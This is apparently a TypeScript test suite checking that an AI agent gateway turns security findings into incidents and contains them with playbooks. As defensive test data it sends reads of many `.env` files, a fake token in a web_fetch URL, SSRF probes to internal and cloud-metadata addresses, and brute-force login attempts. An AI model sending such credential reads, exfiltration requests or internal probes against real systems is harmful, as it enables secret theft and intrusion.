import { appendFileSync, existsSync, readdirSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { type ConnectionOptions, connect } from "node:tls";
import { afterEach, describe, expect, it } from "vitest";
import { type AuditRecord, verifyReceipt } from "../../src/audit/index.ts";
import { homePaths } from "../../src/config/index.ts";
import type { Incident } from "../../src/incident/index.ts";
import type { Finding } from "../../src/provider/index.ts";
import { fakeEntry } from "../fixtures/provider.ts";
import { type Installation, type InstallationOptions, install } from "../matrix/installation.ts";
import { obey, order } from "../matrix/obedient-model.ts";

const open = new Set<Installation>();

async function installed(options: Partial<InstallationOptions> = {}): Promise<Installation> {
  const installation = await install({ model: obey, ...options });
  open.add(installation);
  return installation;
}

afterEach(async () => {
  for (const installation of open) await installation.close();
  open.clear();
});

/** Two agents that may do the same, and approvals that wait for long enough to be answered. */
const twoAgents: Partial<InstallationOptions> = {
  config: ({ workspace }) => ({
    agents: [
      { id: "main", profile: "full", workspace },
      { id: "second", profile: "full", workspace },
    ],
    approvals: { timeoutSeconds: 30 },
  }),
};

/** What the gateway answers, as far as the tests look at it. */
interface Answer {
  readonly ok?: boolean;
  readonly lifted?: boolean;
  readonly refused?: string | undefined;
  readonly tools?: readonly { readonly effect: string; readonly summary: string }[];
}

async function rpc(
  { url }: Installation,
  token: string,
  method: string,
  params: object = {},
): Promise<{ result?: Answer; error?: { data?: { code: string } } }> {
  const response = await fetch(`${url}/rpc`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method, params }),
  });
  return (await response.json()) as Awaited<ReturnType<typeof rpc>>;
}

/** What an agent says to a message, by an operator's token of the test. */
async function say(at: Installation, text: string, agent = "main", session = "s"): Promise<Answer> {
  const { result, error } = await rpc(at, await at.token(), "message.send", { text, agent, session });
  return result ?? { refused: error?.data?.code };
}

const wroteIn = (at: Installation, name: string) => existsSync(join(at.workspace, name));

/** The one incident of a rule once its playbook has come to its end, but for what somebody is asked about. */
async function incidentOf(at: Installation, rule: string): Promise<Incident> {
  let found: Incident | undefined;
  await expect
    .poll(
      async () => {
        found = (await at.port.incidents.list()).find((incident) => incident.rule.startsWith(rule));
        const waits = (await at.port.approvals.list()).length > 0;
        return (
          found?.steps.every(({ state }) => state !== "pending" && (state !== "running" || waits)) === true || waits
        );
      },
      { timeout: 20_000 },
    )
    .toBe(true);
  return found as Incident;
}

const stepOf = (incident: Incident, kind: string) => incident.steps.find(({ step }) => step.do === kind);
const stateOf = async (at: Installation, id: string, kind: string) =>
  stepOf((await at.port.incidents.get(id)) as Incident, kind)?.state;

async function answerTheOne(at: Installation, answer: "allow-once" | "deny"): Promise<void> {
  await expect.poll(async () => (await at.port.approvals.list()).length, { timeout: 10_000 }).toBe(1);
  const [asked] = await at.port.approvals.list();
  await at.port.approvals.answer(asked?.id ?? "", answer, "operator");
}

const finding = (over: Partial<Finding>): Finding => ({
  ...{ rule: "test.hit", severity: "high", message: "a test found it", agent: "main", session: "s", evidence: [] },
  ...over,
});

describe("findings of each source become incidents, and playbooks have their effects", () => {
  it("[SP-10] [IR-1] suspicious command: a burst of denials ends the turn, copies the evidence, tells the operators, and asks before it freezes", async () => {
    const at = await installed(twoAgents);
    await say(at, Array.from({ length: 12 }, (_, i) => order("read", { path: `d${i}/.env` })).join("\n"));
    const { id, playbooks } = await incidentOf(at, "denial.burst");
    expect(playbooks).toEqual(["suspicious-command"]);
    await answerTheOne(at, "allow-once");
    await expect.poll(() => stateOf(at, id, "freeze-tool")).toBe("done");
    const incident = (await at.port.incidents.get(id)) as Incident;
    expect(incident).toMatchObject({ state: "contained", severity: "high" });
    expect(incident.steps.map(({ state }) => state)).toEqual(["done", "done", "done", "done"]);
    expect((await at.port.outbox.list("operator")).filter(({ text }) => text.includes(id))).toHaveLength(1);
    // Copies that can be checked without the log.
    const copies = join(homePaths(at.home).incidents, id);
    const [receipt] = readdirSync(copies).filter((name) => name.startsWith("receipt-"));
    expect(verifyReceipt(readFileSync(join(copies, receipt ?? ""), "utf8"), at.port.log.vkey).ok).toBe(true);
    for (const name of readdirSync(copies)) expect(statSync(join(copies, name)).mode & 0o777).toBe(0o600);
    const copied = readFileSync(join(copies, "records.jsonl"), "utf8")
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(copied.map(({ index }) => index)).toEqual(expect.arrayContaining([...incident.evidence]));
    // The tool is frozen for this agent, other tools and other agents are not.
    const exec = (name: string) => order("exec", { command: `touch ${name}` });
    await say(at, exec("frozen"), "main", "later");
    await say(at, exec("benign"), "second", "later");
    await say(at, order("write", { path: "other-tool", content: "x" }), "main", "later");
    expect(["frozen", "benign", "other-tool"].map((name) => wroteIn(at, name))).toEqual([false, true, true]);
  });

  it("[SP-10] [IR-1] prompt injection: the session is revoked once somebody says so; a denied step leaves it", async () => {
    const at = await installed(twoAgents);
    await say(at, "hello", "main", "s");
    const before = (await at.port.sessions.list()).find(({ agent }) => agent === "main")?.id ?? "";
    await at.port.runtime.raise(finding({ rule: "content.injection", session: before }));
    const { id } = await incidentOf(at, "content.injection");
    await answerTheOne(at, "deny");
    await expect.poll(() => stateOf(at, id, "revoke-session")).toBe("unapproved");
    expect((await at.port.sessions.list()).map((s) => s.id)).toContain(before);
    // What gets worse needs nobody's leave any more.
    await at.port.runtime.raise(finding({ rule: "content.forged", severity: "critical", session: before }));
    await expect.poll(() => stateOf(at, id, "revoke-session")).toBe("done");
    expect((await at.port.sessions.list()).map((s) => s.id)).not.toContain(before);
  });

  it("[SP-10] [IR-1] credential leak: a refused request with a secret in it ends the session", async () => {
    const at = await installed();
    const secret = ["ghp", "_", "0aB1cD2eF3gH4iJ5kL6mN7oP8qR9sT0uV1wX"].join("");
    await say(at, order("web_fetch", { url: `https://example.com/?q=${secret}` }), "main", "leaky");
    const incident = await incidentOf(at, "dlp.egress");
    expect(incident.playbooks).toEqual(["credential-leak"]);
    expect(stepOf(incident, "revoke-session")?.state).toBe("done");
    expect((await at.port.sessions.list()).map((s) => s.id)).not.toContain(incident.session);
    expect(at.whereWritten(secret)).toEqual([]);
  });

  it("[SP-10] [IR-1] brute force: after lock-outs the network is blocked, once approved; everybody else gets in", async () => {
    const at = await installed(twoAgents);
    const token = await at.token();
    const port = Number(new URL(at.url).port);
    const from = (localAddress: string, bearer: string) => status(port, localAddress, bearer);
    for (let i = 0; (await at.records({ kind: "lifecycle" })).filter(isLockout).length < 3 && i < 200; i++) {
      await from("127.0.0.9", `wrong${i}`);
      await sleep(50);
    }
    const { id, peer } = await incidentOf(at, "auth.brute-force");
    expect(peer).toBe("127.0.0.9");
    await answerTheOne(at, "allow-once");
    await expect.poll(() => stateOf(at, id, "block-peer")).toBe("done");
    expect(await from("127.0.0.9", token)).toBe("cut off");
    expect(await from("127.0.0.8", token)).toBe("200");
    const [held] = at.port.containments.list();
    const operator = await at.token();
    expect((await rpc(at, operator, "containment.lift", { id: held?.id })).result).toMatchObject({ lifted: true });
    expect(await from("127.0.0.9", token)).not.toBe("cut off");
  });

  it("[SP-10] [IR-1] sandbox escape: a critical finding quarantines the agent at once, ends what runs, and nobody else is touched", async () => {
    const at = await installed(twoAgents);
    const running = say(at, order("exec", { command: "touch started && sleep 60 && touch ended" }), "main", "busy");
    await expect.poll(() => wroteIn(at, "started"), { timeout: 20_000 }).toBe(true);
    const session = (await at.port.sessions.list()).find(({ name }) => name === "busy")?.id ?? "";
    const begun = performance.now();
    await at.port.runtime.raise(finding({ rule: "sandbox.escape", severity: "critical", session }));
    await running;
    expect(performance.now() - begun).toBeLessThan(30_000);
    const incident = await incidentOf(at, "sandbox.escape");
    expect(incident.steps.map(({ state }) => state)).toEqual(["done", "done", "done", "done"]);
    expect(wroteIn(at, "ended")).toBe(false);
    expect(await say(at, "hello", "main", "again")).toEqual({ refused: "denied" });
    await say(at, order("write", { path: "benign", content: "x" }), "second", "again");
    expect(wroteIn(at, "benign")).toBe(true);
    // A false alarm gives the agent back.
    const operator = await at.token();
    await rpc(at, operator, "incidents.falsePositive", { id: incident.id });
    await say(at, order("write", { path: "back", content: "x" }), "main", "again");
    expect(wroteIn(at, "back")).toBe(true);
    expect(await stateOf(at, incident.id, "quarantine-agent")).toBe("undone");
  });

  it("[SP-10] [IR-1] audit tampering: a log that does not verify is an incident", async () => {
    const at = await installed();
    const operator = await at.token();
    expect((await rpc(at, operator, "audit.verify")).result?.ok).toBe(true);
    expect(await at.port.incidents.list()).toEqual([]);
    appendFileSync(join(homePaths(at.home).audit, "records.jsonl"), "not a record\n");
    expect((await rpc(at, operator, "audit.verify")).result?.ok).toBe(false);
    const incident = await incidentOf(at, "audit.tampered");
    expect(incident).toMatchObject({ severity: "critical", playbooks: ["audit-tampering"] });
    expect(stepOf(incident, "notify")?.state).toBe("done");
    expect((await at.port.outbox.list("operator")).some(({ text }) => text.includes(incident.id))).toBe(true);
  });

  it("[SP-10] [IR-1] SSRF probe: after refused addresses in a row web_fetch is frozen for this agent, once approved", async () => {
    const at = await installed(twoAgents);
    const urls = ["http://127.0.0.1:1/", "http://10.0.0.1/", "http://169.254.169.254/", "http://192.168.0.1/"];
    await say(at, [...urls, "http://[::1]/"].map((url) => order("web_fetch", { url })).join("\n"));
    const { id } = await incidentOf(at, "net.probe");
    await answerTheOne(at, "allow-once");
    await expect.poll(() => stateOf(at, id, "freeze-tool")).toBe("done");
    const { tools } = await say(at, order("web_fetch", { url: "http://10.0.0.2/" }), "main", "later");
    expect(tools?.[0]?.summary).toContain("frozen");
    const twin = await say(at, order("web_fetch", { url: "http://10.0.0.2/" }), "second", "later");
    expect(twin.tools?.[0]?.summary).not.toContain("frozen");
  });

  it("[SP-10] [IR-1] runaway agent: turns that use up their budgets one after the other end the session", async () => {
    const at = await installed({
      model: () => ({ calls: [{ name: "sessions_list", arguments: "{}" }] }),
      config: ({ workspace }) => ({
        agents: [{ id: "main", profile: "full", workspace, scope: { budgets: { toolCalls: 1 } } }],
      }),
    });
    for (let i = 0; i < 3; i++) await say(at, "go on", "main", "endless");
    const incident = await incidentOf(at, "runaway.budget");
    expect(stepOf(incident, "revoke-session")?.state).toBe("done");
    expect((await at.port.sessions.list()).map((s) => s.id)).not.toContain(incident.session);
  });

  it("[SP-10] [IR-1] malicious skill: after a skill has changed no skill runs, once approved", async () => {
    const at = await installed(twoAgents);
    await at.port.runtime.raise(finding({ rule: "skill.changed", message: "the skill tidy is not what was approved" }));
    const incident = await incidentOf(at, "skill.changed");
    expect(incident).toMatchObject({ playbooks: ["malicious-skill"] });
    await answerTheOne(at, "allow-once");
    await expect.poll(() => stateOf(at, incident.id, "freeze-tool")).toBe("done");
    expect(await at.port.incidents.get(incident.id)).toMatchObject({ state: "contained" });
    const { tools } = await say(at, order("skill_run", { skill: "tidy" }), "main", "later");
    expect(tools?.[0]?.effect).toBe("deny");
    expect(at.port.containments.list()).toMatchObject([{ held: { kind: "tool", tool: "skill_run", agent: "main" } }]);
  });

  it("[SP-10] a provider that fails is an incident, and the operators are told", async () => {
    const at = await installed({
      providers: { other: fakeEntry("other", { decide: () => ({ effect: "perhaps" }) as never }) },
      config: ({ workspace }) => ({ agents: [{ id: "main", profile: "full", workspace, provider: "other" }] }),
    });
    expect(await say(at, "hello")).toEqual({ refused: "denied" });
    const incident = await incidentOf(at, "provider.failing");
    expect(stepOf(incident, "notify")?.state).toBe("done");
  });

  it("[IR-1] [IR-2] a benign heavy day raises no incident", async () => {
    const at = await installed(twoAgents);
    for (let i = 0; i < 25; i++) {
      const calls = [order("write", { path: `f${i}`, content: "x" }), order("read", { path: `f${i}` })];
      await say(at, calls.join("\n"), i % 2 ? "main" : "second", `s${i % 5}`);
    }
    await say(at, order("read", { path: ".env" }));
    expect(await at.port.incidents.list()).toEqual([]);
    expect(await at.records({ kind: "finding" })).toEqual([]);
  });
});

const isLockout = (record: AuditRecord) => record.body["event"] === "auth.locked-out";

/** The status of a call from an address of this machine, or that the connection was cut off before any answer. */
function status(port: number, localAddress: string, token: string): Promise<string> {
  return new Promise((resolve) => {
    // The local address is taken by the connection beneath, which the types do not say.
    const from = { port, host: "127.0.0.1", localAddress, servername: "localhost" };
    const socket = connect(from as ConnectionOptions);
    let text = "";
    socket.on("secureConnect", () =>
      socket.write(
        `GET /v1/models HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer ${token}\r\nconnection: close\r\n\r\n`,
      ),
    );
    socket.on("data", (data) => {
      text += data.toString("latin1");
    });
    socket.on("error", () => {});
    socket.on("close", () => resolve(/^HTTP\/1.1 (\d+)/.exec(text)?.[1] ?? "cut off"));
  });
}
